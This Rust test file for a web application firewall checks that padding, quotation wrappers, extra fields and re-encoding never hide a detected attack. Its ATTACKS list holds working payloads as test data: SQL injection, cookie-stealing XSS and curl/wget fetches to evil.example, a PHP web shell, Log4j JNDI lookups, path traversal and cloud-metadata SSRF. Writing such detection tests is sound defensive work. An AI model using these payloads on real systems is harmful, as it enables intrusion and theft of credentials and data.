//! Adding something to a detected message never turns a block into a pass: text where the attack survives it,
//! marks of a quotation, parameters, cookies, header fields, parts, nodes, and copies of the attack in
//! further encodings.

use portcullis_evaluate::padding::{Kind, Position, Wrapper, pad};
use portcullis_evaluate::survival::{Purpose, TABLE, survives, survives_in};
use portcullis_evaluate::{Content, DetectorsAlone, Engine};
use portcullis_semantic::{Class, Level};
use proptest::prelude::*;

/// Attacks of every class that survives text somewhere, and of some that do not.
const ATTACKS: &[(Class, &str)] = &[
    (Class::Sqli, "1' union select user,password from users-- -"),
    (Class::Sqli, "x' or 1=1#"),
    (Class::Sqli, "'; drop table users--"),
    (Class::Sqli, "1 and sleep(5)-- "),
    (Class::Xss, "<svg onload=alert(1)>"),
    (Class::Xss, "\"><script src=//evil.example/x.js></script>"),
    (Class::Xss, "<img src=x onerror=fetch('//evil.example/'+document.cookie)>"),
    (Class::Command, ";cat /etc/passwd"),
    (Class::Command, "127.0.0.1|curl evil.example/x -o /tmp/x"),
    (Class::Command, "$(wget http://evil.example/a.sh)"),
    (Class::Code, "<?php system($_GET['c']);?>"),
    (Class::Template, "{{''.__class__.__mro__[1].__subclasses__()}}"),
    (Class::Template, "${T(java.lang.Runtime).getRuntime().exec('id')}"),
    (Class::Log4j, "${jndi:ldap://evil.example/a}"),
    (Class::Log4j, "${${lower:j}ndi:rmi://evil.example/a}"),
    (Class::Ssi, "<!--#exec cmd=\"cat /etc/passwd\" -->"),
    (Class::Path, "/../../../../../../etc/passwd"),
    (Class::Path, "..\\..\\..\\..\\windows\\win.ini"),
    (Class::Ssrf, "http://169.254.169.254/latest/meta-data/?a=b"),
    (Class::Ldap, "*)(uid=*))(|(uid=*"),
    (Class::Crlf, "a\r\nSet-Cookie: session=evil"),
    (Class::Deserialization, "O:8:\"Evil\\Obj\":1:{s:1:\"a\";s:2:\"id\";}"),
];

/// Other texts beside it in honest and half-honest messages.
const OTHERS: &[&str] = &[
    "Old gardens",
    "1",
    "",
    "it's a \"test\" -- really",
    "*)(x",
    "a=b&c=d",
    "{{name}}",
    "{\"a\":[1,2,{\"b\":\"c\"}]}",
    "<b>bold</b>",
    "../img/logo.png",
    "5 > 3 or 2",
    "SGVsbG8gd29ybGQ=",
    "%41%42%27",
    "$HOME; done",
];

#[derive(Clone, Copy, Debug)]
enum Carrier {
    Query,
    Form,
    Json,
    Multipart,
    Cookie,
}

/// A message with the attack as the value of `name`, and others before and behind it.
fn message(
    carrier: Carrier,
    name: &str,
    value: &[u8],
    before: &[String],
    behind: &[String],
    fields: &[String],
) -> Content {
    let mut values: Vec<(String, Vec<u8>)> = Vec::new();
    let other = |(number, text): (usize, &String)| (format!("o{number}"), text.clone().into_bytes());
    values.extend(before.iter().enumerate().map(other));
    values.push((name.to_owned(), value.to_vec()));
    values.extend(behind.iter().enumerate().map(|(number, text)| other((number + before.len(), text))));
    let escape = |bytes: &[u8]| bytes.iter().map(|b| format!("%{b:02X}")).collect::<String>();
    let pairs = |end: &str| {
        values.iter().map(|(name, value)| format!("{name}={}", escape(value))).collect::<Vec<_>>().join(end)
    };
    let mut headers = vec![("Host".to_owned(), b"app.example.com".to_vec())];
    headers.extend(
        fields.iter().enumerate().map(|(number, text)| (format!("X-O{number}"), text.clone().into_bytes())),
    );
    let (mut method, mut uri, mut body) = ("POST", b"/app".to_vec(), Vec::new());
    let mut kind = None;
    match carrier {
        Carrier::Query => (method, uri) = ("GET", format!("/app?{}", pairs("&")).into_bytes()),
        Carrier::Cookie => {
            method = "GET";
            headers.push(("Cookie".to_owned(), pairs("; ").into_bytes()));
        }
        Carrier::Form => {
            kind = Some("application/x-www-form-urlencoded");
            body = pairs("&").into_bytes();
        }
        Carrier::Json => {
            kind = Some("application/json");
            let text = |bytes: &[u8]| serde_json::Value::from(String::from_utf8_lossy(bytes).into_owned());
            let node: serde_json::Map<String, serde_json::Value> =
                values.iter().map(|(name, value)| (name.clone(), text(value))).collect();
            body = serde_json::to_vec(&node).unwrap();
        }
        Carrier::Multipart => {
            kind = Some("multipart/form-data; boundary=b0undary");
            for (name, value) in &values {
                body.extend_from_slice(
                    format!("--b0undary\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n")
                        .as_bytes(),
                );
                body.extend_from_slice(value);
                body.extend_from_slice(b"\r\n");
            }
            body.extend_from_slice(b"--b0undary--\r\n");
        }
    }
    if let Some(kind) = kind {
        headers.push(("Content-Type".to_owned(), kind.as_bytes().to_vec()));
    }
    Content::Request { method: method.to_owned(), uri, headers, body }
}

fn is_blocked(content: &Content) -> bool {
    thread_local! {
        static DETECTORS: std::cell::RefCell<DetectorsAlone> = DetectorsAlone::new(Level::Balanced).into();
    }
    DETECTORS.with_borrow_mut(|detectors| {
        let outcome = detectors.run(content, None);
        outcome.blocked || outcome.refused.is_some()
    })
}

/// The attack in another encoding.
fn encoded(text: &str, how: usize) -> String {
    match how % 4 {
        0 => text.bytes().map(|b| format!("%{b:02x}")).collect(),
        1 => text.chars().map(|c| format!("&#{};", c as u32)).collect(),
        2 => text.chars().map(|c| format!("\\u{:04x}", c as u32)).collect(),
        _ => text.bytes().map(|b| format!("%25{b:02x}")).collect(),
    }
}

fn others(most: usize) -> impl Strategy<Value = Vec<String>> {
    prop::collection::vec(prop::sample::select(OTHERS).prop_map(str::to_owned), 0..most)
}

#[test]
fn each_attack_is_detected_as_it_is() {
    for (class, attack) in ATTACKS {
        assert!(
            is_blocked(&message(Carrier::Query, "q", attack.as_bytes(), &[], &[], &[])),
            "{class}: {attack}"
        );
    }
    for row in TABLE.iter().filter(|row| row.class != Class::NoSql && row.class != Class::Xpath) {
        let has = ATTACKS.iter().any(|(class, _)| *class == row.class);
        assert!(has || row.class == Class::RemoteFile, "no attack of {}", row.class);
    }
}

/// Fields whose names stand for something.
const PURPOSES: &[&str] = &[
    "comment",
    "message",
    "body",
    "content",
    "html",
    "code",
    "script",
    "source",
    "snippet",
    "template",
    "config",
    "sql",
    "query",
    "filter",
    "title",
    "password",
    "webhook_url",
    "payload",
    "ids[comment]",
    "items[code]",
];

/// Marks of a quotation, one in the other, quiet nothing that is live, whatever the field is called.
#[test]
fn no_quotation_hides_an_attack() {
    let mut lost = Vec::new();
    for (class, attack) in ATTACKS {
        for name in ["q"].iter().chain(PURPOSES) {
            let purpose = if *name == "q" { Purpose::Neutral } else { Purpose::Text };
            let carriers = [Carrier::Query, Carrier::Form, Carrier::Json, Carrier::Multipart];
            for carrier in carriers {
                for outer in [None].into_iter().chain(Wrapper::ALL.map(Some)) {
                    for inner in Wrapper::ALL {
                        let survives = |wrapper| survives_in(*class, attack.as_bytes(), wrapper, purpose);
                        if !survives(inner) || outer.is_some_and(|outer| !survives(outer)) {
                            continue;
                        }
                        let once = inner.around(attack.as_bytes());
                        let value = outer.map_or(once.clone(), |outer| outer.around(&once));
                        if !is_blocked(&message(carrier, name, &value, &[], &[], &[])) {
                            lost.push(format!("{class} {carrier:?} {name} {outer:?} {inner:?}: {attack}"));
                        }
                    }
                }
            }
        }
    }
    assert!(lost.is_empty(), "{} pass:\n{}", lost.len(), lost.join("\n"));
}

proptest! {
    #![proptest_config(ProptestConfig { cases: ProptestConfig::default().cases.max(400), failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn nothing_that_is_added_hides_an_attack(
        (class, attack) in prop::sample::select(ATTACKS),
        carrier in prop::sample::select(
            &[Carrier::Query, Carrier::Form, Carrier::Json, Carrier::Multipart, Carrier::Cookie][..]),
        name in prop::sample::select(&["q", "id", "name", "comment", "host"][..]),
        text in prop::option::of((
            prop::sample::select(&Position::ALL[..]),
            prop::sample::select(&Kind::ALL[..]),
            prop_oneof![1..200usize, 200..6_000usize],
            0..1_000usize,
        )),
        before in prop_oneof![4 => others(4), 1 => others(150)],
        behind in prop_oneof![4 => others(4), 1 => others(150)],
        fields in others(6),
        copies in prop::collection::vec(0..4usize, 0..3),
    ) {
        let plain = message(carrier, name, attack.as_bytes(), &[], &[], &[]);
        prop_assume!(is_blocked(&plain));
        // Only bodies have fields for text.
        let is_body = matches!(carrier, Carrier::Form | Carrier::Json | Carrier::Multipart);
        let purpose = if name == "comment" && is_body { Purpose::Text } else { Purpose::Neutral };
        let value = match text {
            Some((position, kind, bytes, seed)) if survives(class, attack.as_bytes(), position, kind, purpose) => {
                pad(attack.as_bytes(), position, kind, bytes, seed)
            }
            _ => attack.as_bytes().to_vec(),
        };
        let mut behind = behind;
        behind.extend(copies.iter().map(|how| encoded(attack, *how)));
        let more = message(carrier, name, &value, &before, &behind, &fields);
        prop_assert!(is_blocked(&more), "{class} {carrier:?} {name}: {attack} passes with {text:?}, {before:?}, {behind:?}, {fields:?}");
    }
}
